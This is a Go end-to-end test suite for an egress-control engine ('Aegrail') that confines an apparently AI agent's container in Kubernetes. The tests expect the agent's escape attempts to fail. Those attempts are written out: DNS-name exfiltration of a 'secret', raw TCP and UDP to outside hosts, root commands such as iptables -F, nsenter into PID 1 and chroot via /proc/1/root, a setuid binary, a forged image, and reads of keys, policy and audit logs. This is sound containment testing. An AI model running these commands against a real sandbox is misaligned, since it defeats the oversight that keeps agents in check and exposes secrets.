package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// outcome is what the agent program says of an attempt.
type outcome struct {
	Succeeded bool   `json:"succeeded"`
	Detail    string `json:"detail"`
}

// captives are the pods that every row is attempted in: one that was written by
// hand, and one that was injected.
func captives(t *testing.T, attempt func(*testing.T, agent)) {
	t.Helper()
	t.Run("by hand", func(t *testing.T) { attempt(t, byHand(t)) })
	t.Run("injected", func(t *testing.T) { attempt(t, injected(t)) })
}

func (a agent) try(t *testing.T, attempt ...string) (o outcome) {
	t.Helper()
	a.exec(t, &o, attempt...)
	t.Logf("%s: %v, %s", strings.Join(attempt, " "), o.Succeeded, strings.ReplaceAll(o.Detail, "\n", "; "))
	return o
}

// mustFail fails the test where an attempt succeeds.
func (a agent) mustFail(t *testing.T, attempt ...string) outcome {
	t.Helper()
	o := a.try(t, attempt...)
	if o.Succeeded {
		t.Errorf("%s: %s", strings.Join(attempt, " "), o.Detail)
	}
	return o
}

func TestE01WhateverIsDialledLandsInTheEngine(t *testing.T) { captives(t, dialsEverything) }

func dialsEverything(t *testing.T, a agent) {
	// The address is the agent's choice, and does not matter: the name is resolved by the engine.
	var got answer
	a.exec(t, &got, "send", "-direct", "-method", "POST", "-body", "direct", "-host", modelHost, "https://1.2.3.5/v1/chat/completions")
	if got.Status != 200 {
		t.Errorf("an allowed request to an address of the agent's choice: %+v", got)
	}
	for _, s := range suite.origins.arrived(func(s seen) bool { return s.BodySHA256 == digest("direct") }) {
		if s.Host != modelHost {
			t.Errorf("it arrived as %+v", s)
		}
	}
	for i, url := range []string{"https://1.2.3.5", "https://[2606:e2e::4]"} {
		path := fmt.Sprintf("/e01/%d", i)
		a.exec(t, &got, "send", "-direct", "-insecure", "-host", otherHost, url+path)
		if got.Error == "" {
			t.Errorf("another host by %s: %+v", url, got)
		}
		a.exec(t, &got, "send", "-direct", "-insecure", "-host", modelHost, url+path)
		if got.Status != 403 {
			t.Errorf("another path by %s: %+v", url, got)
		}
	}
	for _, address := range []string{"1.2.3.4:9999", "1.2.3.4:80", "[2606:e2e::4]:80", "10.240.0.1:6443", "10.96.0.1:443"} {
		o := a.try(t, "dial", "tcp", address, `GET /e01/plain HTTP/1.1\r\nHost: `+otherHost+`\r\n\r\n`)
		if o.Succeeded && !strings.Contains(o.Detail, "X-Aegrail-Decision: denied") {
			t.Errorf("plain HTTP to %s: %s", address, o.Detail)
		}
	}
	if through := suite.origins.arrived(func(s seen) bool { return strings.HasPrefix(s.Path, "/e01/") }); len(through) > 0 {
		t.Errorf("went past the engine: %+v", through)
	}
	log := records(t, a.log(t))
	for _, want := range []string{"/e01/0", "/e01/1", "/e01/plain"} {
		if len(logged(log, func(r record) bool { return r.Event == "egress_denied" && r.Payload.Path == want })) == 0 {
			t.Errorf("the log does not have %s", want)
		}
	}
}

func TestE02NoOtherProtocolGetsOut(t *testing.T) { captives(t, speaksOtherProtocols) }

func speaksOtherProtocols(t *testing.T, a agent) {
	for _, address := range []string{"1.2.3.4:443", "1.2.3.4:9999", "[2606:e2e::4]:443"} {
		a.mustFail(t, "udp", address)
	}
	for _, address := range []string{"1.2.3.4", "2606:e2e::4", "10.240.0.1"} {
		a.mustFail(t, "ping", address)
	}
	if got := suite.origins.datagrams(); len(got) > 0 {
		t.Errorf("datagrams arrived: %v", got)
	}

	// A name that carries what was stolen, by every way that a question may take.
	const stolen = "c2VjcmV0.e02.example"
	for _, server := range [][]string{nil, {"udp", "1.2.3.4:53"}, {"tcp", "1.2.3.4:53"}, {"udp", clusterDNS}, {"tcp", clusterDNS}} {
		a.mustFail(t, append([]string{"lookup", stolen}, server...)...)
	}
	if i := slices.IndexFunc(suite.dns.questions(), func(q string) bool { return strings.Contains(q, "e02") }); i >= 0 {
		t.Errorf("the cluster's resolver was asked for %s", suite.dns.questions()[i])
	}
	// DNS over HTTPS is a request like any other.
	if got := a.send(t, "POST", "https://"+otherHost+"/dns-query", "question"); got.Error == "" {
		t.Errorf("DNS over HTTPS: %+v", got)
	}
	log := records(t, a.log(t))
	if len(logged(log, func(r record) bool {
		return strings.Contains(r.Payload.Host, "e02") && r.Payload.Reason == "dns_name_denied"
	})) == 0 {
		t.Errorf("the log does not have the name that was asked for")
	}
}

func TestE03RootInTheAgentsContainerIsHeldAsWell(t *testing.T) { captives(t, triesAsRoot) }

func triesAsRoot(t *testing.T, a agent) {
	if id := strings.TrimSpace(a.shell(t, "id", "-u")); id != "0" {
		t.Fatalf("the agent is user %s, and this test is about root", id)
	}
	engine := a.engineUID(t)
	a.mustFail(t, "become", engine, "tcp", "1.2.3.4:9999")
	// The image has a binary that is the engine's user's, with the setuid bit.
	if got := a.shell(t, "/setuid", "become", engine, "tcp", "1.2.3.4:9999"); !strings.Contains(got, `"succeeded":false`) {
		t.Errorf("a setuid binary: %s", got)
	}
	for _, attempt := range []string{"flush", "flush-in-user-namespace", "trace"} {
		a.mustFail(t, attempt)
	}
	a.mustFail(t, "mark", "1.2.3.4:9999", a.mark(t))
	a.mustFail(t, "write", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet")
	for _, command := range []string{
		"ip link set eth0 down", "ip route del default", "ip addr add 10.9.9.9/32 dev lo", "iptables -F", "ip link add x type dummy",
		"chown " + engine + " /tmp", "mount -t tmpfs x /mnt", "mknod /tmp/disk b 254 0 && head -c 1 /tmp/disk", "nsenter -t 1 -n true", "chroot /proc/1/root/nowhere true",
	} {
		if out, err := shellLine(a, command); err == nil {
			t.Errorf("%s works: %s", command, out)
		}
	}
	// It is still held.
	a.mustFail(t, "udp", "1.2.3.4:9999")
}

// An image may say which user runs it, after the pod has said which user the engine is: whoever has a registry answers when they like.
func TestE03AnImageThatIsMadeForTheEnginesUserIsHeldAsWell(t *testing.T) {
	a := agent{injected(t).namespace, "forged", "agent"}
	const forged = "docker.io/local/forged:1"
	apply(t, a.waiting(forged))
	engine := a.engineUID(t)
	bringImage(t, image{tag: forged, entry: []string{"/agent"}, user: engine + ":" + engine})
	ready(t, a.namespace, a.pod)
	if id := strings.TrimSpace(a.shell(t, "/bin/busybox", "id", "-u")); id != engine {
		t.Fatalf("the agent is user %s, and this test is about the engine's, %s", id, engine)
	}
	mark := a.mark(t)
	for _, address := range []string{"1.2.3.4:443", "1.2.3.4:9999", "[2606:e2e::4]:443"} {
		a.mustFail(t, "udp", address)
		a.mustFail(t, "mark", address, mark)
	}
	a.mustFail(t, "ping", "1.2.3.4")
	a.mustFail(t, "lookup", "c2VjcmV0.e03.example", "udp", clusterDNS)
	if i := slices.IndexFunc(suite.dns.questions(), func(q string) bool { return strings.Contains(q, "e03") }); i >= 0 {
		t.Errorf("the cluster's resolver was asked for %s", suite.dns.questions()[i])
	}
	a.mustFail(t, "dial", "tcp", "127.0.0.1:15020", `GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n`)
	a.mustFail(t, "read", "/var/run/aegrail", "/var/run/aegrail/*", "/var/run/secrets/aegrail", "/var/log/aegrail/*", "/proc/[0-9]*/root/var/run/aegrail/*")
	a.mustFail(t, "trace")
	var got answer
	a.exec(t, &got, "send", "-direct", "-insecure", "-host", otherHost, "https://1.2.3.5/e03")
	if got.Error == "" {
		t.Errorf("it reaches another host: %+v", got)
	}
	if through := suite.origins.arrived(func(s seen) bool { return s.Path == "/e03" }); len(through) > 0 {
		t.Errorf("arrived: %+v", through)
	}
	served(t, a)
	kubectl(t, "delete", "pod", "-n", a.namespace, a.pod)
}

// bringImage gives the node an image that it could not fetch until now: the agent's with another configuration.
func bringImage(t *testing.T, i image) {
	t.Helper()
	archive := filepath.Join(t.TempDir(), "image.tar")
	files := layer{files: map[string]string{"/agent": filepath.Join(suite.dir, "bin", "agent"), "/bin/busybox": "/bin/busybox"}}
	if err := writeImages(archive, files, i); err != nil {
		t.Fatal(err)
	}
	node, err := kubelet() // which has containerd's socket in sight
	if err != nil {
		t.Fatal(err)
	}
	in, err := os.Open(archive)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	cmd := exec.CommandContext(t.Context(), "nsenter", "--mount", "--target", strconv.Itoa(node), "ctr", "-a", "/run/containerd/containerd.sock", "-n", "k8s.io", "images", "import", "-")
	cmd.Stdin = in
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}

// shellLine runs a shell's command line in the agent's container.
func shellLine(a agent, line string) (string, error) {
	return command("", "kubectl", "exec", "-n", a.namespace, a.pod, "-c", a.container, "--", "sh", "-c", line)
}

func TestE04TheEnginesPortsAreNoWayIn(t *testing.T) { captives(t, dialsTheEngine) }

func dialsTheEngine(t *testing.T, a agent) {
	ip := strings.TrimSpace(kubectl(t, "get", "pod", "-n", a.namespace, a.pod, "-o", "jsonpath={.status.podIP}"))
	for _, address := range []string{"127.0.0.1:15020", "[::1]:15020", ip + ":15020", "127.0.0.1:15080"} {
		a.mustFail(t, "dial", "tcp", address, `GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n`)
	}
	request := `GET /e04 HTTP/1.1\r\nHost: ` + modelHost + `\r\n\r\n`
	for _, address := range []string{"127.0.0.1:15001", "[::1]:15001", ip + ":15001"} {
		if o := a.try(t, "dial", "tcp", address, request); o.Succeeded && !strings.Contains(o.Detail, "X-Aegrail-Decision: denied") {
			t.Errorf("the transparent port by hand: %s", o.Detail)
		}
	}
	// From outside, as another pod would.
	if got, err := dialFromNode(ip+":15001", request); err == nil && !strings.Contains(got, "X-Aegrail-Decision: denied") {
		t.Errorf("the transparent port from the node: %s", got)
	}
	if got, err := dialFromNode(ip+":15053", request); err == nil {
		t.Errorf("the engine's DNS from the node: %s", got)
	}
	if through := suite.origins.arrived(func(s seen) bool { return s.Path == "/e04" }); len(through) > 0 {
		t.Errorf("arrived: %+v", through)
	}
	// Kubelet and a scraper do reach what is there for them.
	if got, err := dialFromNode(ip+":15020", "GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); err != nil || !strings.Contains(got, "200 OK") {
		t.Errorf("the probe: %s %v", got, err)
	}
}

func TestE05KeysTokensLogAndPolicyAreOutOfReach(t *testing.T) { captives(t, reachesForKeys) }

func reachesForKeys(t *testing.T, a agent) {
	a.mustFail(t, "read", "/etc/aegrail/key", "/etc/aegrail/key/*", "/etc/aegrail/policy/*", "/var/run/secrets/aegrail", "/var/log/aegrail", "/var/log/aegrail/*",
		"/proc/[0-9]*/root/etc/aegrail/key", "/proc/[0-9]*/root/var/log/aegrail/*")
	a.mustFail(t, "write", "/etc/aegrail/ca/ca-bundle.pem", "/etc/aegrail/policy/policy.yaml", "/var/log/aegrail/audit.log")
	if out, err := shellLine(a, "find / -xdev -name 'tls.key' -o -xdev -name 'audit.log*' -o -xdev -name 'policy.yaml' | grep ."); err == nil {
		t.Errorf("found %s", out)
	}
	for _, may := range []string{"get secrets", "list secrets", "update configmaps", "patch pods", "update namespaces", "create pods/ephemeralcontainers", "create pods/exec", "create serviceaccounts/token"} {
		if got, _ := command("", "kubectl", append([]string{"auth", "can-i", "-n", a.namespace, "--as=" + a.account(t)}, strings.Fields(may)...)...); strings.TrimSpace(got) != "no" {
			t.Errorf("the agent's account may %s: %s", may, got)
		}
	}
}
